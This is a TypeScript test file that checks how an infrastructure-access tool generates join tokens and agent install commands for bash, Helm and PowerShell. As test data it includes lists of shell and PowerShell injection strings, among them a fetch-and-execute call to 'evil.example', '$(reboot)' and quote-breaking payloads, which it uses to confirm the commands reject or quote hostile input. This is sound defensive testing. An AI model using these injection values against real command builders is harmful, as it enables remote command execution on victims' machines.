import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { findJoined, resourceIdQuery, carriesResourceId } from './agent-match';
import { installCommands } from './install-commands';
import { countdownText, isJoinTokenName, joinTokenRequest, msLeft, RESOURCE_ID_LABEL, tokenFacts } from './join-token';
import { kindById, type ResourceKind } from './kinds';

const kind = (id: string) => kindById(id) as ResourceKind;
const TOKEN = '2c6f8e0a4b1d3f5e7a9c1b3d5f7e9a0c';
const input = { proxy: 'teleport.example.com:3080', token: TOKEN, resourceId: 'rid-1' };

/** Tokens that must never reach a command (each would have run or broken one). */
const HOSTILE_TOKENS = [
  "x(iex(iwr('evil.example')))",
  "abc'def",
  'abc)def',
  'abc(def',
  '$(reboot)',
  '`reboot`',
  'a b',
  'a;id',
  'ABCDEF0123456789ABCDEF0123456789',
  'iam-7a1c0e4f9b2d8e36a5c1f0b9d7e4a2c6',
  '2c6f8e0a4b1d3f5e7a9c1b3d5f7e9a0c\n',
  '',
];

/** Values a proxy address or a name might hold if hostile: each must arrive as one literal word. */
const HOSTILE_VALUES = [
  'a b',
  "x'y",
  'h)(',
  'p$(echo PWNED)',
  'p`echo PWNED`',
  'evil.example;echo PWNED',
  '"dq"',
  'back\\slash',
  "x(iex(iwr('evil.example')))",
  "'\\''",
];

/**
 * Runs a bash command line with `sudo`, `curl` and `helm` replaced by functions that print their
 * arguments one per line: what a real bash would hand each program.
 */
function bashArgs(command: string): string[] {
  const stubs = `sudo() { printf '%s\\n' "$@"; }; curl() { printf '%s\\n' "$@"; }; helm() { printf '%s\\n' "$@"; }`;
  return execFileSync('bash', ['-c', `${stubs}; ${command}`], { encoding: 'utf8' })
    .replace(/\n$/, '')
    .split('\n');
}

const PS_QUOTE = `['\u2018\u2019\u201A\u201B]`;
/** The PowerShell line's one argument: a single-quoted literal, the rest fixed text; null otherwise. */
function powershellUri(line: string): string | null {
  const m = new RegExp(
    `^Invoke-WebRequest -Uri '((?:(?!${PS_QUOTE}).|(${PS_QUOTE})\\2)*)' -UseBasicParsing \\| Invoke-Expression$`,
    's',
  ).exec(line);
  return m ? m[1]!.replace(new RegExp(`(${PS_QUOTE})\\1`, 'g'), '$1') : null;
}

describe('join tokens', () => {
  it('asks for the kind’s role with the token join method, and the name as a suggested label', () => {
    expect(joinTokenRequest(kind('server'), undefined)).toEqual({ roles: ['Node'], join_method: 'token' });
    expect(joinTokenRequest(kind('desktop'), 'x')).toEqual({ roles: ['WindowsDesktop'], join_method: 'token' });
    expect(joinTokenRequest(kind('mysql-rds'), 'orders')).toEqual({
      roles: ['Db'],
      join_method: 'token',
      suggested_agent_matcher_labels: { 'teleport.dev/discover-name': ['orders'] },
    });
  });

  it('reads the resource id and expiry; no resource id, no usable token', () => {
    const token = { id: 't', expiry: '2030-01-01T00:00:00Z', method: 'token', suggestedLabels: [{ name: RESOURCE_ID_LABEL, value: 'r' }] };
    expect(tokenFacts(token)).toEqual({ id: 't', resourceId: 'r', expiry: '2030-01-01T00:00:00Z' });
    expect(tokenFacts({ ...token, suggestedLabels: [] })).toBeNull();
  });

  it('counts down and stops at zero', () => {
    const now = Date.parse('2030-01-01T00:00:00Z');
    expect(msLeft('2030-01-01T04:00:00Z', now)).toBe(4 * 3_600_000);
    expect(msLeft('2029-12-31T00:00:00Z', now)).toBe(0);
    expect(msLeft('not a date', now)).toBe(0);
    expect(countdownText(4 * 3_600_000 - 1000)).toBe('3h 59m 59s');
    expect(countdownText(65_000)).toBe('1m 05s');
    expect(countdownText(999)).toBe('0s');
  });
});

describe('install commands', () => {
  it('a server runs the node script of the token', () => {
    const c = installCommands(kind('server'), input);
    expect(c.shell).toBe('bash');
    expect(c.lines).toEqual([{ text: `sudo bash -c "$(curl -fsSL https://teleport.example.com:3080/scripts/${TOKEN}/install-node.sh)"` }]);
  });

  it('an application passes its name and uri, quoted for the shell', () => {
    const c = installCommands(kind('app'), { ...input, name: 'grafana', uri: 'http://localhost:3000' });
    expect(c.lines[0]?.text).toBe(
      `sudo bash -c "$(curl -fsSL 'https://teleport.example.com:3080/scripts/${TOKEN}/install-app.sh?name=grafana&uri=http%3A%2F%2Flocalhost%3A3000')"`,
    );
  });

  it('a database runs the database script; Kubernetes installs the Helm chart with the label; desktops run PowerShell', () => {
    expect(installCommands(kind('postgres-self'), input).lines[0]?.text).toContain(`/scripts/${TOKEN}/install-database.sh`);
    const kube = installCommands(kind('kube'), { ...input, name: 'prod' }).lines;
    expect(kube[1]?.text).toContain(
      `--set authToken=${TOKEN} --set kubeClusterName=prod --set 'labels.teleport\\.internal/resource-id=rid-1'`,
    );
    const desktop = installCommands(kind('desktop'), input);
    expect(desktop.shell).toBe('powershell');
    expect(desktop.lines[1]?.text).toBe(
      `Invoke-WebRequest -Uri 'https://teleport.example.com:3080/webapi/scripts/desktop-access/configure/${TOKEN}/configure-ad.ps1' -UseBasicParsing | Invoke-Expression`,
    );
  });
});

describe('hostile data in install commands', () => {
  it('accepts only the tokens the proxy issues: lower-case hex (CryptoRandomHex), as the embedded default does', () => {
    expect(isJoinTokenName(TOKEN)).toBe(true);
    for (let i = 0; i < 20; i++) expect(isJoinTokenName(randomBytes(16).toString('hex'))).toBe(true);
    for (const token of HOSTILE_TOKENS) expect(isJoinTokenName(token), token).toBe(false);
  });

  it('refuses to build any command from a token outside that alphabet', () => {
    for (const id of ['server', 'app', 'postgres-self', 'kube', 'desktop'])
      for (const token of HOSTILE_TOKENS) expect(() => installCommands(kind(id), { ...input, token }), `${id} ${token}`).toThrow();
  });

  it('every bash command, parsed by bash, hands curl exactly the script URL, however hostile the proxy', () => {
    for (const proxy of [input.proxy, ...HOSTILE_VALUES]) {
      for (const [id, script] of [
        ['server', 'install-node.sh'],
        ['postgres-self', 'install-database.sh'],
        ['mysql-rds', 'install-database.sh'],
      ] as const) {
        const [line] = installCommands(kind(id), { ...input, proxy }).lines;
        expect(bashArgs(line!.text), `${id} ${proxy}`).toEqual(['bash', '-c', '-fsSL', `https://${proxy}/scripts/${TOKEN}/${script}`]);
      }
      const [app] = installCommands(kind('app'), { ...input, proxy, name: "it's", uri: 'http://h/$(x)' }).lines;
      const query = new URLSearchParams({ name: "it's", uri: 'http://h/$(x)' }).toString();
      expect(bashArgs(app!.text)).toEqual(['bash', '-c', '-fsSL', `https://${proxy}/scripts/${TOKEN}/install-app.sh?${query}`]);
    }
  });

  it('the Helm command, parsed by bash, sets exactly the values given', () => {
    for (const value of HOSTILE_VALUES) {
      const [repo, install] = installCommands(kind('kube'), { ...input, proxy: value, name: value, resourceId: value }).lines;
      expect(bashArgs(repo!.text)).toEqual(['repo', 'add', 'teleport', 'https://charts.releases.teleport.dev', 'repo', 'update']);
      expect(bashArgs(install!.text), value).toEqual([
        ...['install', 'teleport-agent', 'teleport/teleport-kube-agent', '--create-namespace', '--namespace', 'teleport-agent'],
        ...['--set', 'roles=kube', '--set', `proxyAddr=${value}`, '--set', `authToken=${TOKEN}`],
        ...['--set', `kubeClusterName=${value}`, '--set', `labels.teleport\\.internal/resource-id=${value}`],
      ]);
    }
  });

  it('every PowerShell line is fixed text around one single-quoted literal: the script URL', () => {
    for (const proxy of [input.proxy, ...HOSTILE_VALUES, "evil.example')); iex('x", 'evil\u2019; iex \u2018x', '$env:PATH']) {
      const [adds, configure] = installCommands(kind('desktop'), { ...input, proxy }).lines;
      expect(powershellUri(adds!.text), proxy).toBe(`https://${proxy}/webapi/scripts/desktop-access/install-ad-ds.ps1`);
      expect(powershellUri(configure!.text), proxy).toBe(
        `https://${proxy}/webapi/scripts/desktop-access/configure/${TOKEN}/configure-ad.ps1`,
      );
    }
  });
});

describe('matching the agent', () => {
  it('queries the resource-id label and matches only a resource carrying it', () => {
    expect(resourceIdQuery('r-1')).toBe('labels["teleport.internal/resource-id"] == "r-1"');
    const label = { name: RESOURCE_ID_LABEL, value: 'r-1' };
    expect(carriesResourceId([label], 'r-1')).toBe(true);
    expect(carriesResourceId([{ ...label, value: 'r-2' }], 'r-1')).toBe(false);
    expect(carriesResourceId(undefined, 'r-1')).toBe(false);
    const nodes = [
      { id: 'n0', hostname: 'other', tags: [] },
      { id: 'n1', hostname: 'ip-10-0-1-2', tags: [label] },
    ];
    expect(findJoined({ kind: 'node', items: nodes }, 'r-1')).toEqual({ id: 'n1', label: 'ip-10-0-1-2' });
    expect(findJoined({ kind: 'node', items: nodes.slice(0, 1) }, 'r-1')).toBeNull();
    expect(findJoined({ kind: 'db', items: [{ name: 'orders', labels: [label] }] }, 'r-1')).toEqual({ id: 'orders', label: 'orders' });
  });
});
